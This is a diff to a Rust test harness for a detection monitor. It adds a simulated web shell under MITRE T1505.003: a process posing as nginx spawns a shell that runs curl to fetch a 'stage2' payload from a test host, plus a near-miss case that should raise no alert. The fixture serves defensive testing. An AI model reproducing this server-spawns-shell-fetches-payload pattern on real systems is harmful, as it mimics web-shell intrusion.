@@ -192,6 +192,25 @@ const SIMULATIONS: &[Simulation] = &[
         ],
     },
     Simulation {
+        name: "t1505-web-shell",
+        title: "T1505.003: a server named nginx runs a shell that runs curl (alert); the same under a server named appserver (no T1505 alert)",
+        long: false,
+        run: sim_web_shell,
+        expect: &[
+            Expect::Rule {
+                label: "under-nginx",
+                technique: "T1505.003",
+                suspicion: None,
+                level: Some("high"),
+            },
+            Expect::NoRuleOnPort {
+                label: "under-appserver",
+                technique: "T1505.003",
+                port: 80,
+            },
+        ],
+    },
+    Simulation {
         name: "t1043-wget-https",
         title: "T1043 test 4: HTTPS download over port 443 (wget)",
         long: false,
@@ -476,6 +495,33 @@ fn sim_dns_tunnel(c: &Ctx) -> Vec<Proc> {
         ));
     }
     procs
+}
+
+/// A web shell, as the kernel sees one: a server process (a copy of python3 installed as
+/// `.../sbin/nginx`) forks a shell that runs (execs) curl. The rule reads the ancestry the monitor
+/// tracked from exec and fork events; the same chain under a server named `appserver` is
+/// the near miss.
+fn sim_web_shell(c: &Ctx) -> Vec<Proc> {
+    let run_under = |server: &str| -> u32 {
+        let dir = c.dir.join(&format!("srv-{server}/sbin"));
+        std::fs::create_dir_all(&dir).expect("create the server dir");
+        let exe = dir.join(server);
+        if !exe.exists() {
+            std::fs::copy(&c.python3, &exe).expect("copy python3 as the server");
+        }
+        // `exec`: the shell becomes curl, so curl's parent is the server (the check finds a
+        // process's connections through parent pids in the records).
+        let cmd = format!(
+            "exec {curl} -s -o /dev/null --max-time 5 http://{NS_V4}/stage2",
+            curl = c.curl.display()
+        );
+        let script = "import subprocess, sys; subprocess.run(['/bin/sh', '-c', sys.argv[1]])";
+        c.quick(&exe, &["-c", script, &cmd])
+    };
+    vec![
+        proc("under-nginx", run_under("nginx"), NS_V4, 80),
+        proc("under-appserver", run_under("appserver"), NS_V4, 80),
+    ]
 }
 
 /// A program resolving a name through the host's configured nameserver (the test host,
